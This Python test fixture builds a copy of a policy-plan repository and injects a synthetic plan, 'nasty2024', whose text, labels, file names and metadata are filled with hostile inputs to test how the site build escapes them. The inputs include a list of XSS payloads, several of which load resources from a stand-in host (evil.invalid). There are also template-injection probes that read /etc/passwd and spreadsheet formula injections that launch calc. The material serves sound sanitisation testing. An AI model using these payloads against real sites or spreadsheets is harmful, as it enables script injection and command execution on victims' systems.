"""A repository with one more plan, whose every text is meant to break something."""

from __future__ import annotations

import datetime
import hashlib
import shutil
from pathlib import Path

from planref.corpus.corpus import load_corpus
from planref.rules.registry import renewed_registry
from planref.source.basis import clean_line
from planref.source.writing import write_files
from planref.source.yamlfile import write_yaml

PLAN = "nasty2024"
GONE = "nasty2023"

SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<script src=//evil.invalid/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.invalid/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>点我</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>点我</a>",
    "<form action=javascript:alert(1)><button>提交</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<base href=//evil.invalid/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title></title><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    '" autofocus onfocus=alert(1) "',
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "{{ 7*7 }}",
    "{{ config.__class__ }}",
    "{% include '/etc/passwd' %}",
    "{# 注释 #}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= 7*7 %>",
    "[点我](javascript:alert(1))",
    "![图](x onerror=alert(1))",
    "<javascript:alert(1)>",
    "=HYPERLINK('http://evil.invalid','x')",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
)

MARKS = (
    "*强调*",
    "**加粗**",
    "_下划_",
    "__双下划__",
    "`代码`",
    "```围栏```",
    "~~删除~~",
    "==标记==",
    "^上标^",
    "~下标~",
    "{++新增++}",
    "{--删除--}",
    "{~~旧~>新~~}",
    "{==高亮==}{>>批注<<}",
    "# 井号标题",
    "## 二级",
    "- 列表",
    "* 列表",
    "+ 列表",
    "> 引用",
    ">> 双引用",
    "--- 横线",
    "*** 横线",
    "| 表 | 格 |",
    "[链接](地址)",
    "[^1] 脚注",
    "[x] 勾选",
    "!!! note 提示",
    "??? 折叠",
    "=== 标签页",
    ":smile: 表情",
    "&amp; &lt; &gt; &quot;",
    "&nbsp;&copy;&#8212;",
    "<b>粗</b>",
    "<br>",
    "a < b > c",
    "\\*转义\\*",
    "\\n 不是换行",
    "“弯引号”‘单’",
    "\"直引号\" 'x'",
    "《书名〈内〉》",
    "〔2017〕11号",
    "［全角括号］",
    "１２３全角数字",
    "① 圈码",
    "％‰℃㎡",
    "𠮷野家",
    "😀表情",
    "é è ñ ü",
    "ﬁ 连字",
    "x² y₃",
    "1/2 ½",
    "a--b a---b",
    "... ……",
    "(c) (tm)",
    "http://example.invalid/路径?a=1&b=2",
    "user@example.invalid",
    "C:\\路径\\文件",
    "key: value",
    "- 一: 二",
    "[列, 表]",
    "{键: 值}",
    "true",
    "null",
    "~",
    "0x1F",
    "1_000",
    "1e3",
    "2024-01-01",
    "12:30",
    "no",
    "'单引号开头",
    '"双引号开头',
    "%百分号开头",
    "!惊叹号开头",
    "&与号开头",
    "*星号开头",
    "?问号开头",
    "|竖线开头",
    ">大于号开头",
    "@艾特开头",
)

TEXTS = (*SCRIPTS, *MARKS)

SOURCE = f"{PLAN} (alert(1)) [x]-+〔怪〕.txt"
"""The received file, with what the name of a file may hold: no mark of a page is among it."""

ODD_CLAUSE = {key: clean_line("".join(SCRIPTS)) for key in ("label", "heading", "end_mark")}
"""A clause whose label is none, and whose heading ends with what is no mark."""


def clause_id(number: int) -> str:
    return f"{PLAN}-1-{number}"


def nasty_repository(root: Path, folder: Path) -> Path:
    """Copy what a build needs into a folder and add the plan; return the folder."""
    for name in ("data", "docs", "locale", "scripts"):
        shutil.copytree(root / name, folder / name, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(root / "mkdocs.yml", folder / "mkdocs.yml")
    title = "怪文" + SCRIPTS[0] + "方案"
    lines = [title, "一、" + MARKS[0], *(f"{number}.{_joined(text)}" for number, text in enumerate(TEXTS, start=1))]
    lines.append("".join(ODD_CLAUSE.values()))
    received = "".join(line + "\n" for line in lines)
    (folder / "data/sources" / SOURCE).write_text(received, "utf-8")
    _append(folder / "data/sources/manifest.yaml", "sources", _entry(received, len(lines)))
    (folder / f"data/plans/{PLAN}.yaml").write_text(write_yaml(_plan(title)), "utf-8")
    (folder / f"data/facts/{PLAN}.yaml").write_text(write_yaml(_facts()), "utf-8")
    (folder / f"data/alignments/zj2017~{PLAN}.yaml").write_text(write_yaml(_alignment()), "utf-8")
    _spoil_vocabularies(folder / "data/vocab")
    gone = {"id": GONE, "since": "2026-11-21", "page": f"plans/{GONE}.html", "gone": SCRIPTS[12]}
    _append(folder / "data/ids.yaml", "ids", gone)
    write_files(renewed_registry(load_corpus(folder), datetime.date(2026, 11, 21)))
    return folder


def _spoil_vocabularies(vocab: Path) -> None:
    """Labels, explanations and names are texts too."""
    term = {"id": "nasty", "surfaces": [SCRIPTS[6]], "explanation": SCRIPTS[37], "source": "general"}
    _append(vocab / "terms.yaml", "terms", term | {"english": SCRIPTS[4], "note": SCRIPTS[9]})
    labels = {"topics": "标准规范与制度建设", "campaigns": "安全生产治本攻坚三年行动", "lists": "完成状态"}
    for file, old in labels.items():
        path = vocab / f"{file}.yaml"
        text = path.read_text("utf-8")
        assert old in text
        path.write_text(text.replace(f"label: {old}", f"label: {old}{SCRIPTS[0]}", 1), "utf-8")


def _append(path: Path, key: str, entry: dict[str, object]) -> None:
    """Add an entry to a file that is one list, or ends with it."""
    with path.open("a", encoding="utf-8") as file:
        file.write(write_yaml({key: [entry]}).split("\n", 1)[1])


def _joined(text: str) -> str:
    """A text whose spaces the cleaning would keep: layout spaces beside Han do not exist in a text basis."""
    return clean_line("甲" + text + "乙。")


def text_of(number: int) -> str:
    return _joined(TEXTS[number - 1])


def _entry(received: str, count: int) -> dict[str, object]:
    return {
        "file": SOURCE,
        "sha256": hashlib.sha256(received.encode()).hexdigest(),
        "received": SCRIPTS[4],
        "original": SOURCE.replace(".txt", ".docx"),
        "plans": [
            {"plan": PLAN, "first": "1", "last": str(count), "paragraphs": [str(n) for n in range(1, count + 1)]}
        ],
    }


def _plan(title: str) -> dict[str, object]:
    clauses = [
        {"id": clause_id(number), "kind": "clause", "label": f"{number}.", "text": text_of(number)}
        for number in range(1, len(TEXTS) + 1)
    ]
    clauses.append({"id": f"{PLAN}-1-odd", "kind": "clause", **ODD_CLAUSE})
    clauses[0]["anomalies"] = [{"kind": "wording", "quote": SCRIPTS[0], "note": SCRIPTS[4]}]  # type: ignore[assignment]
    return {
        "plan": PLAN,
        "title": title,
        "short_title": SCRIPTS[6],
        "level": "city",
        "region": SCRIPTS[14],
        "campaign": "zhiben-gongjian-2024",
        "issuer": {"name": SCRIPTS[35]},
        "document_number": SCRIPTS[36],
        "period": {"start": "2024-01-01", "end": "2026-12-31"},
        "source": SOURCE,
        "url": "https://example.invalid/javascript:alert(1)",
        "reviews": [{"readings": "1", "date": "2026-11-21", "note": SCRIPTS[1]}],
        "warnings": [
            {"line": "1", "code": SCRIPTS[5], "words": SCRIPTS[6], "assumed": SCRIPTS[7], "accepted": SCRIPTS[8]}
        ],
        "notes": [SCRIPTS[2], SCRIPTS[37]],
        "body": [
            {"id": f"{PLAN}-title", "kind": "title", "role": "title", "text": title},
            {"id": f"{PLAN}-1", "kind": "heading", "label": "一、", "heading": MARKS[0], "children": clauses},
        ],
    }


def _facts() -> dict[str, object]:
    clauses: dict[str, dict[str, object]] = {
        clause_id(n): {"topics": {"primary": "rules"}} for n in range(1, len(TEXTS) + 1)
    }
    target = {
        "quote": "alert(1)",
        "kind": "count",
        "metric": SCRIPTS[0],
        "comparator": "=",
        "value": "1",
        "unit": SCRIPTS[4],
        "note": SCRIPTS[6],
        "disputable": True,
        "subject": {"kind": "other", "words": SCRIPTS[2]},
    }
    time: dict[str, object] = {"quote": SCRIPTS[1], "type": "event", "due": SCRIPTS[1], "note": SCRIPTS[9]}
    time["subject"] = {"kind": "park", "words": SCRIPTS[3]}
    clauses[clause_id(1)]["targets"] = [target]
    clauses[clause_id(2)]["times"] = [time]
    firmness = {"quote": SCRIPTS[0], "word": SCRIPTS[0], "grade": "required", "note": SCRIPTS[5]}
    clauses[clause_id(1)]["firmness"] = [firmness]
    return {"plan": PLAN, "clauses": clauses}


def _alignment() -> dict[str, object]:
    judgement = {
        "clause": "zj2017-1",
        "finding": "present",
        "rationale": SCRIPTS[0] + SCRIPTS[37],
        "pairs": [{"about": SCRIPTS[5], "quote": "强化系统治理", "clause": clause_id(1), "answer": SCRIPTS[0]}],
        "evidence": [{"clause": clause_id(1), "quote": SCRIPTS[0]}],
        "status": "reviewed",
    }
    return {"left": "zj2017", "right": PLAN, "mode": "thematic", "counterparts": [judgement]}
